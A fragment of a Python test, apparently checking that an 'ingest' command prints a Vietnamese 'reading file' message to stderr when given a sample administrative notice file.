    assert "Đọc tb13.txt" in shell("ingest", str(_notice(tmp_path / "tb13.txt", 104,
                                                                             "1. Giao Sở Tư pháp rà soát."))).err
